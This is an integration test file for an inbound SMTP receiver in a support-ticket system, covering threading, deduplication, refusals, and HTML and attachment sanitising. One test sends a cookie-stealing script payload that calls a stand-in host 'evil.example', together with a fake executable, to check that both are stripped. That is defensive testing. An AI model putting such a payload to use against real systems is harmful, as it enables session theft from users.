import { createTransport, type SendMailOptions, type Transporter } from 'nodemailer';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiClient, eventually, startTestEnv, type TestEnv } from '../../../test/helpers.ts';
import { startSmtpPeer, type SmtpPeer } from '../../../test/peers/smtp-peer.ts';
import { channelsOf } from './channels.ts';

/**
 * The built-in SMTP receiver against a real SMTP client (nodemailer), with replies going out
 * through engage to a real SMTP peer (the client's side): threading of a whole exchange by
 * Message-ID/References, addresses and sizes refused with reasons, HTML sanitised, dangerous
 * attachments dropped.
 */
describe('inbound SMTP receiver', () => {
  let env: TestEnv;
  let peer: SmtpPeer;
  let ws: Awaited<ReturnType<TestEnv['workspace']>>;
  let call: ReturnType<typeof apiClient>;
  let port: number;
  let transport: Transporter;
  const MAX = 64 * 1024;

  const send = (m: SendMailOptions) =>
    transport.sendMail({ from: 'Анна <anna@client.example>', to: 'Support@Bank.example', ...m });
  const failure = async (p: Promise<unknown>) => {
    try {
      await p;
    } catch (e) {
      return e as { responseCode?: number; response?: string; message: string };
    }
    throw new Error('expected the SMTP server to refuse');
  };
  const conversations = async (q = '') => (await call.ok('GET', `/conversations?limit=100${q}`)).data as any[];
  const messagesOf = async (id: string) => (await call.ok('GET', `/conversations/${id}/messages`)).data as any[];

  beforeAll(async () => {
    peer = await startSmtpPeer();
    // No fallback by person and recency: only the thread keys can keep the exchange together.
    env = await startTestEnv({ outboundAllow: '127.0.0.0/8', serviceThreadDays: 0, inboundSmtpMaxBytes: MAX });
    ws = await env.workspace('smtp-in');
    call = apiClient(() => env.app, { prefix: '/api/v1', auth: () => ws.auth });
    const channel = await call.ok('POST', '/channels', {
      type: 'email',
      name: 'Support mail',
      config: { host: '127.0.0.1', port: peer.port, secure: false, from: 'Bank support <support@bank.example>' },
    });
    await call.ok('POST', '/inboxes', {
      name: 'Support',
      channel: 'email',
      address: 'support@bank.example',
      channelId: channel.id,
    });
    const receiver = await channelsOf(env.kernel).listenSmtp(0);
    port = receiver!.port;
    transport = createTransport({ host: '127.0.0.1', port, secure: false, ignoreTLS: true });
  }, 240_000);
  afterAll(async () => {
    transport?.close();
    await env?.close();
    await peer?.close();
  });

  it('keeps a 5-message exchange (client, agent, client, agent, client) in one conversation', async () => {
    await send({ subject: 'Карта заблокирована', text: 'Моя карта не работает', messageId: '<c1@client.example>' });
    const [conv] = await eventually(async () => {
      const list = await conversations();
      return list.length ? list : null;
    });
    expect(conv).toMatchObject({ channel: 'email', subject: 'Карта заблокирована' });

    const replyAndCatch = async (body: string, n: number) => {
      await call.ok('POST', `/conversations/${conv.id}/messages`, { body });
      const sent = await peer.waitFor(n, 60_000);
      const m = sent[n - 1]!;
      expect(m.to).toEqual(['anna@client.example']);
      return m.messageId!;
    };
    const r1 = await replyAndCatch('Проверяем, ответим в течение часа', 1);
    await send({
      subject: 'Re: Карта заблокирована',
      text: 'Спасибо, жду',
      messageId: '<c2@client.example>',
      inReplyTo: r1,
      references: ['<c1@client.example>', r1],
    });
    await eventually(async () => (await messagesOf(conv.id)).length >= 3);
    const r2 = await replyAndCatch('Карта разблокирована', 2);
    // The client's last mail names only the agent's latest reply, as many clients do.
    await send({
      subject: 'Re: Re: Карта заблокирована',
      text: 'Работает, спасибо!',
      messageId: '<c3@client.example>',
      inReplyTo: r2,
    });

    const msgs = await eventually(async () => {
      const m = await messagesOf(conv.id);
      return m.filter((x) => x.direction !== 'note').length >= 5 ? m : null;
    });
    expect(msgs.filter((x) => x.direction !== 'note').map((x) => x.direction)).toEqual([
      'in',
      'out',
      'in',
      'out',
      'in',
    ]);
    expect(msgs.at(-1)!.body).toBe('Работает, спасибо!');
    expect(await conversations()).toHaveLength(1);
  });

  it('files a redelivered message once (the Message-ID is the idempotency key)', async () => {
    const before = (await conversations()).length;
    const m = { subject: 'Дубль', text: 'один раз', messageId: '<dup@client.example>', from: 'dup@client.example' };
    await send(m);
    await send(m);
    const list = await eventually(async () => {
      const l = await conversations();
      return l.length > before ? l : null;
    });
    const conv = list.find((c) => c.subject === 'Дубль');
    expect((await messagesOf(conv.id)).filter((x) => x.direction === 'in')).toHaveLength(1);
  });

  it('refuses mail to an address no inbox has, with 550 and the reason', async () => {
    const e = await failure(send({ to: 'nobody@bank.example', subject: 'x', text: 'x' }));
    expect(e.responseCode).toBe(550);
    expect(e.response ?? e.message).toMatch(/no inbox here has this address/);
  });

  it('refuses mail over the size limit with 552 and the limit', async () => {
    const e = await failure(
      send({
        subject: 'big',
        text: 'see attached',
        attachments: [{ filename: 'scan.pdf', content: Buffer.alloc(MAX * 2, 1) }],
      }),
    );
    expect(e.responseCode).toBe(552);
    expect(e.response ?? e.message).toMatch(/64 KB/);
  });

  it('sanitises script HTML and drops a dangerous attachment, noting both on the message', async () => {
    await send({
      from: 'mallory@client.example',
      subject: 'Счёт',
      messageId: '<evil@client.example>',
      html: '<p onmouseover="steal()">Оплатите <b>счёт</b><script>fetch("https://evil.example/"+document.cookie)</script><img src="https://evil.example/t.gif"></p>',
      attachments: [
        {
          filename: 'invoice.exe',
          content: Buffer.from('MZ\x90\x00fake program'),
          contentType: 'application/octet-stream',
        },
        { filename: 'invoice.pdf', content: Buffer.from('%PDF-1.4 fake'), contentType: 'application/pdf' },
      ],
    });
    const conv = await eventually(async () => (await conversations()).find((c) => c.subject === 'Счёт'));
    const [m] = (await messagesOf(conv.id)).filter((x) => x.direction === 'in');
    expect(m.html).toContain('<b>счёт</b>');
    expect(m.html).not.toMatch(/script|onmouseover|evil\.example|<img/i);
    expect(m.body).toContain('Оплатите');
    expect(m.body).toMatch(/"invoice\.exe".*removed/);
    expect(m.attachments.map((a: any) => a.filename)).toEqual(['invoice.pdf']);
  });

  it('files each message of one connection to its own recipients only', async () => {
    await call.ok('POST', '/inboxes', { name: 'Cards', channel: 'email', address: 'cards@bank.example' });
    const pooled = createTransport({
      host: '127.0.0.1',
      port,
      secure: false,
      ignoreTLS: true,
      pool: true,
      maxConnections: 1,
    });
    try {
      for (let i = 0; i < 25; i++)
        await pooled.sendMail({
          from: `pool${i}@client.example`,
          to: i % 2 ? 'support@bank.example' : 'cards@bank.example',
          subject: `pool ${i}`,
          text: `pooled ${i}`,
          messageId: `<pool${i}@client.example>`,
        });
    } finally {
      pooled.close();
    }
    const inboxes = (await call.ok('GET', '/inboxes')).data as any[];
    const cards = inboxes.find((x) => x.address === 'cards@bank.example').id;
    const onCards = await eventually(async () => {
      const l = (await call.ok('GET', `/conversations?inboxId=${cards}&limit=100`)).data as any[];
      return l.length >= 13 ? l : null;
    });
    expect(onCards.map((c) => Number(c.subject.slice(5))).sort((x, y) => x - y)).toEqual(
      Array.from({ length: 13 }, (_, i) => i * 2),
    );
  });

  it('listens only when configured', async () => {
    expect(env.kernel.config.inboundSmtpPort).toBe(0);
    // Started by the test above (port 0 = a free one); the periodic task never started one.
    expect(channelsOf(env.kernel).smtpReceiver?.port).toBe(port);
  });
});
